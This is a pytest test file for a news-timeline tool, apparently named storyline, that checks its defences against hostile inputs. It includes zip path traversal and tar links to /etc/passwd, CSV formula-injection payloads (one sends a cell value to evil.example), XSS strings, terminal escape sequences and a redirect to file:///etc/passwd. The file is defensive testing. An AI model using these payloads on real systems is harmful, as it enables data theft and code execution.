"""The hostile set: inputs, signals, exports, servers and stores that once lost a batch,
outlived their parent or turned storyline against its user (issue 15). Each test
reproduces one failure found by a probe and checks it stays fixed."""

from __future__ import annotations

import asyncio
import hashlib
import http.server
import io
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import spacy
from click.testing import CliRunner

from conftest import copy_sample, serving
from storyline.cli import main
from storyline.cli.common import safe_text
from storyline.errors import InputError, StoreError
from storyline.pipeline.feed import ArticleFeed, Overrides, unmatched_rows
from storyline.pipeline.report import IngestReport
from storyline.read import read_paths
from storyline.read.fetch import UrlFetcher, fetch_url
from storyline.read.manifest import load_manifest
from storyline.store import Store
from storyline.timeline.export import render
from storyline.types import Article, DateValue, RawRecord, Skipped, SourceRef, TimelineEvent
from storyline.web import create_app

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples" / "korea-letters"
SRC = ROOT / "src"
SAMPLE = next(p for p in sorted(EXAMPLES.iterdir()) if p.suffix == ".txt")


# -- inputs -----------------------------------------------------------------------


def test_undated_text_over_a_million_characters_is_dated_in_pieces(tmp_path: Path) -> None:
    """spaCy refuses a Doc over nlp.max_length (E088): dating used to tokenise the whole text."""
    text = "".join(f"In meeting {i}, officials met again at the border and talked about letter number "
                   f"{i * 7} for a long time.\n\n" for i in range(12_000))
    text += "On June 30, 2019, Kim Jong-un met Donald Trump at the border.\n"
    assert len(text) > 1_000_000
    (tmp_path / "long.txt").write_text(text, encoding="utf-8")
    shutil.copy(SAMPLE, tmp_path / "short.txt")
    feed = ArticleFeed(spacy.blank("en").make_doc, max_file_bytes=10**8)
    report = IngestReport()
    articles = {Path(a.path).name: a for _, a in feed.articles([str(tmp_path)], Overrides(), [], report)}
    assert not report.skipped
    assert set(articles) == {"long.txt", "short.txt"}  # the batch is not lost
    assert len(articles["long.txt"].text) > 1_000_000  # the whole text, not a cleaned-away remnant
    assert articles["long.txt"].published == DateValue.parse("2019-06-30")
    assert str(articles["long.txt"].published_basis) == "inferred"


def test_file_name_not_valid_utf8_is_stored(tmp_path: Path) -> None:
    name = os.fsdecode(b"caf\xe9-letter.txt")  # Latin-1 name on a UTF-8 system
    (tmp_path / name).write_text("Kim writes\n\nOn 5 May 2018, Mr. Kim wrote again.\n", encoding="utf-8")
    [record] = list(read_paths([tmp_path], 10**6))
    assert isinstance(record, RawRecord)
    assert record.path.endswith("caf\\xe9-letter.txt")
    with Store(tmp_path / "s.db") as store, store.transaction():
        store.add_raw(record)  # UnicodeEncodeError before: the folder could never be added
    assert Store(tmp_path / "s.db").has_raw(record.sha256)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_archive_members_links_and_devices_are_reported(tmp_path: Path) -> None:
    text = b"Kim writes\n\nOn 5 May 2018, Mr. Kim wrote again.\n"
    (tmp_path / "a.zip").write_bytes(_zip({"../evil.txt": text, "ok.txt": text}))
    with tarfile.open(tmp_path / "b.tar", "w") as archive:
        for name, kind in (("link.txt", tarfile.SYMTYPE), ("fifo", tarfile.FIFOTYPE)):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/etc/passwd"
            archive.addfile(info)
    reasons = {Path(r.path).name: r.reason for r in read_paths([tmp_path], 10**6) if isinstance(r, Skipped)}
    assert "'..'" in reasons["evil.txt"]
    assert "tar link to '/etc/passwd'" in reasons["link.txt"]
    assert "device or pipe" in reasons["fifo"]


def test_symbolic_links_out_of_the_folder_are_reported(tmp_path: Path) -> None:
    outside, folder = tmp_path / "outside", tmp_path / "folder"
    outside.mkdir()
    folder.mkdir()
    (outside / "secret.txt").write_text("Kim writes\n\nOn 5 May 2018, Mr. Kim wrote.\n", encoding="utf-8")
    (folder / "in.txt").write_text("Kim writes\n\nOn 6 May 2018, Mr. Kim wrote.\n", encoding="utf-8")
    (folder / "secret.txt").symlink_to(outside / "secret.txt")
    (folder / "sub").symlink_to(outside, target_is_directory=True)
    results = list(read_paths([folder], 10**6))
    read = [Path(r.path).name for r in results if isinstance(r, RawRecord)]
    reasons = {Path(r.path).name: r.reason for r in results if isinstance(r, Skipped)}
    assert read == ["in.txt"]
    assert reasons == {"secret.txt": "symbolic link to outside the folder, not followed",
                       "sub": "symbolic link to a folder, not followed"}


def test_truncated_json_is_reported_as_invalid_json(tmp_path: Path) -> None:
    (tmp_path / "cut.json").write_text('{\n  "title": "Kim writes",\n  "text": "SEOUL — On June 30', "utf-8")
    [result] = list(read_paths([tmp_path], 10**6))
    assert isinstance(result, Skipped)
    assert result.reason.startswith("invalid JSON (Unterminated string") and "cut short" in result.reason


def test_manifest_rows_matching_no_file_are_reported(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("Kim writes\n\nMr. Kim wrote.\n", encoding="utf-8")
    (tmp_path / "manifest.csv").write_text(
        "path,published,source\na.txt,2019-06-30,Reuters\nb-typo.txt,2019-07-01,AP\n", encoding="utf-8")
    manifest = load_manifest(tmp_path / "manifest.csv")
    [row] = unmatched_rows([manifest], [str(tmp_path / "a.txt")])
    assert row.path == str(tmp_path / "b-typo.txt") and "no such file" in row.reason
    assert len(unmatched_rows([manifest], [])) == 1  # a.txt exists: not a typo, only not given


# -- workers ----------------------------------------------------------------------

PARENT = """
import sys, time
sys.path.insert(0, sys.argv[1])
from storyline.pipeline.pool import ordered_map, stop_on_sigterm
with stop_on_sigterm():
    for _ in ordered_map(time.sleep, [(i, 60) for i in range(8)], jobs=2):
        pass
"""


def _children(pid: int) -> list[int]:
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid and fields[0] != "Z":
            found.append(int(stat.parent.name))
    return found


def _alive(pids: list[int]) -> list[int]:
    alive = []
    for pid in pids:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if state != "Z":
            alive.append(pid)
    return alive


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="needs /proc (Linux)")
@pytest.mark.parametrize("signum", [signal.SIGKILL, signal.SIGTERM])
def test_pool_workers_do_not_outlive_their_parent(signum: int) -> None:
    parent = subprocess.Popen([sys.executable, "-c", PARENT, str(SRC)], stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 60
        while len(kids := _children(parent.pid)) < 2 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert len(kids) >= 2, "the pool did not start its workers"
        time.sleep(0.5)
        parent.send_signal(signum)
        assert parent.wait(10) == -signal.SIGKILL if signum == signal.SIGKILL else 128 + signum
        deadline = time.monotonic() + 10
        while _alive(kids) and time.monotonic() < deadline:
            time.sleep(0.1)
        assert not _alive(kids), "workers still running after their parent died"
    finally:
        for pid in _alive(_children(parent.pid)):
            os.kill(pid, signal.SIGKILL)
        if parent.poll() is None:
            parent.kill()


# -- exports and terminal -----------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click") <script>alert(1)</script> <svg onload=alert(2)>'


def _events() -> list[TimelineEvent]:
    source = SourceRef(1, "<img src=x onerror=alert(3)> title", "-2+3+cmd|' /C calc'!A0 said", "@SUM(A1)")
    return [TimelineEvent(1, DateValue.parse("2019-06-30"), HOSTILE, ("+cmd|x", "\tTab"), (source,), 1.0)]


def test_csv_export_neutralises_formulas() -> None:
    import csv

    rows = list(csv.reader(io.StringIO(render(_events(), "csv"))))
    summary, actors = rows[1][rows[0].index("sentence")], rows[1][rows[0].index("actors")]
    assert summary.startswith("'=HYPERLINK") and actors.startswith("'+cmd")
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_markdown_export_escapes_html() -> None:
    md = render(_events(), "md")
    for raw in ("<script>", "<svg", "<img"):
        assert raw not in md
    assert "&lt;script&gt;" in md


def test_terminal_output_shows_escape_sequences_as_text(tmp_path: Path) -> None:
    title = "\x1b]0;owned\x07\x1b[2J\x1b]8;;http://evil.example\x1b\\Kim\x9b31m letters\u202e"
    db = tmp_path / "s.db"
    with Store(db) as store, store.transaction():
        text = "Kim wrote to Trump."
        store.add_raw(RawRecord(str(tmp_path / "a.txt"), text.encode(), "r1", "text"))
        article = Article(title, text, "c1", "r1", str(tmp_path / "a.txt"), source="\x1b[31mOutlet")
        store.insert_sentences(store.insert_article(article), ())
    runner = CliRunner()
    for args, shown in ((["articles"], "\\x1b"), (["articles", "--format", "json"], "\\u001b")):
        result = runner.invoke(main, ["--db", str(db), *args])
        assert result.exit_code == 0, result.output
        assert not any(c in result.output for c in "\x1b\x07\x9b\u202e"), repr(result.output)
        assert shown in result.output
        if args[-1] == "json":
            assert json.loads(result.output)[0]["title"] == title  # still valid JSON, same value
    assert safe_text("line\n\tnext") == "line\n\tnext"


# -- fetch ------------------------------------------------------------------------


class _Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args: Any) -> None:  # keep the test output clean
        pass

    def do_GET(self) -> None:  # noqa: N802
        if self.path == "/drip":
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            try:
                for _ in range(100):
                    self.wfile.write(b"x" * 50)
                    self.wfile.flush()
                    time.sleep(0.2)
            except OSError:
                pass
            return
        self.send_response(302)
        self.send_header("Location", "/loop" if self.path == "/loop" else "file:///etc/passwd")
        self.end_headers()


@pytest.fixture()
def local_server() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_dripping_server_meets_the_overall_deadline(local_server: str) -> None:
    fetcher = UrlFetcher(deadline=1.0, allow_private=True)
    started = time.monotonic()
    with pytest.raises(InputError, match="gave up on .* after 1 s"):
        fetch_url(local_server + "/drip", fetcher=fetcher, timeout=5)
    assert time.monotonic() - started < 3


def test_private_addresses_are_refused_by_default(local_server: str) -> None:
    with pytest.raises(InputError, match="private or local address .*--allow-private"):
        fetch_url(local_server + "/drip", timeout=5)


@pytest.mark.parametrize(("path", "words"), [("/loop", "infinite loop"), ("/file", "file:///etc/passwd")])
def test_refused_redirects_are_named(local_server: str, path: str, words: str) -> None:
    with pytest.raises(InputError, match="redirect not followed") as caught:
        fetch_url(local_server + path, fetcher=UrlFetcher(allow_private=True), timeout=5)
    assert words in str(caught.value)


# -- server -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory: pytest.TempPathFactory, sample_db_file: Path) -> Path:
    """The sample articles, as ``storyline add`` stores them (the session's copy)."""
    return copy_sample(sample_db_file, tmp_path_factory.mktemp("hostile"), "demo.db")


def _request(app: Any, method: str, url: str, host: str = "localhost") -> httpx.Response:
    async def call() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url=f"http://{host}") as client:
            return await client.request(method, url)

    return asyncio.run(call())


def test_foreign_host_header_is_refused(demo_db: Path) -> None:
    app = create_app(demo_db)
    assert _request(app, "GET", "/api/articles", host="rebind.evil.example").status_code == 421
    assert _request(app, "GET", "/", host="rebind.evil.example:8000").status_code == 421
    assert _request(app, "GET", "/api/articles", host="127.0.0.1:8000").status_code == 200
    named = create_app(demo_db, hosts=["news.lan"])
    assert _request(named, "GET", "/api/sources", "news.lan").status_code == 200


def test_api_gives_no_absolute_local_paths(demo_db: Path) -> None:
    items = _request(create_app(demo_db), "GET", "/api/articles").json()["items"]
    assert items and all(not item["path"].startswith("/") for item in items)
    article = _request(create_app(demo_db), "GET", f"/api/articles/{items[0]['id']}").json()
    assert article["path"] == items[0]["path"] and str(EXAMPLES) not in article["path"]


def test_head_allow_and_validation_bodies_keep_the_contract(demo_db: Path) -> None:
    app = create_app(demo_db)
    head = _request(app, "HEAD", "/api/events")
    assert head.status_code == 200 and head.content == b""
    trace = _request(app, "TRACE", "/api/events")
    assert trace.status_code == 405 and trace.headers["allow"] == "GET, HEAD"
    invalid = _request(app, "GET", "/api/events?limit=0").json()
    assert {"loc", "msg", "type"} <= set(invalid["detail"][0])
    empty = _request(app, "GET", "/api/events?since=2020&until=2019")
    assert empty.status_code == 200 and empty.json()["events"] == []
    assert _request(app, "GET", "/api/search?q=%00").json()["items"] == []
    schema = _request(app, "GET", "/api/openapi.json").json()
    assert {"400", "404", "422"} <= set(schema["paths"]["/api/events"]["get"]["responses"])


# -- stores -------------------------------------------------------------------------


def test_missing_db_is_refused_not_created(tmp_path: Path) -> None:
    db = tmp_path / "typo.db"
    result = CliRunner().invoke(main, ["--db", str(db), "articles"])
    assert result.exit_code == 1 and "no database at" in result.output
    assert not db.exists()
    with pytest.raises(StoreError, match="no database at"):
        create_app(db)


def test_read_only_store_opens_and_refuses_writes(demo_db: Path, tmp_path: Path) -> None:
    db = tmp_path / "copy.db"
    shutil.copy(demo_db, db)
    with Store(db, read_only=True) as store:
        assert store.articles.listing()
        with pytest.raises(sqlite3.OperationalError, match="readonly|read-only"):
            store.conn.execute("DELETE FROM articles")


def _mount(*args: str) -> bool:
    if not shutil.which("mount"):
        return False
    return subprocess.run(["mount", *args], capture_output=True).returncode == 0


def test_store_on_a_read_only_mount_opens(demo_db: Path, tmp_path: Path) -> None:
    mnt = tmp_path / "mnt"
    mnt.mkdir()
    if not _mount("-t", "tmpfs", "-o", "size=8m", "tmpfs", str(mnt)):
        pytest.skip("this machine does not allow mounting a tmpfs")
    try:
        shutil.copy(demo_db, mnt / "s.db")
        assert _mount("-o", "remount,ro", str(mnt))
        result = CliRunner().invoke(main, ["--db", str(mnt / "s.db"), "articles", "--format", "json"])
        assert result.exit_code == 0, result.output
        assert '"title"' in result.output
    finally:
        subprocess.run(["umount", "-l", str(mnt)], capture_output=True)  # lazy: even if a file is open


def test_full_disk_is_one_line_and_keeps_nothing_half_done(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A real SQLITE_FULL: the store may not grow beyond the pages it has."""
    import storyline.store.store as store_module  # where Store opens its connection

    db = tmp_path / "full.db"
    Store(db).close()
    real_connect = store_module.connect

    def tiny(path: str | Path, read_only: bool = False) -> sqlite3.Connection:
        conn = real_connect(path, read_only)
        pages = conn.execute("PRAGMA page_count").fetchone()[0]
        conn.execute(f"PRAGMA max_page_count = {int(pages) + 1}")
        return conn

    monkeypatch.setattr(store_module, "connect", tiny)
    result = CliRunner().invoke(main, ["--db", str(db), "add", str(EXAMPLES)])
    assert result.exit_code == 1
    assert "disk holding the database is full" in result.output and "Traceback" not in result.output
    monkeypatch.undo()
    with Store(db) as store:
        assert store.articles.listing() == [] and not store.has_raw(hashlib.sha256(b"").hexdigest())
        assert store.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


@pytest.fixture()
def live_server(demo_db: Path, tmp_path: Path) -> Iterator[str]:
    shutil.copy(demo_db, tmp_path / "live.db")
    with serving(create_app(tmp_path / "live.db")) as url:
        yield url


def test_api_keeps_its_openapi_contract(live_server: str, tmp_path: Path) -> None:
    """schemathesis, every check and phase, bounded and seeded, on loopback: zero failures."""
    cli = Path(sys.executable).with_name("schemathesis")
    if not cli.exists() and not os.environ.get("CI"):
        pytest.skip("schemathesis not installed: pip install -e '.[dev]'")
    result = subprocess.run(
        [str(cli), "run", f"{live_server}/api/openapi.json", "--checks", "all", "--max-examples", "25",
         "--seed", "15", "--generation-deterministic", "--no-color", "--request-timeout", "10"],
        capture_output=True, text=True, timeout=240, cwd=tmp_path)
    assert result.returncode == 0, result.stdout[-6000:] + result.stderr[-2000:]
    assert "No issues found" in result.stdout
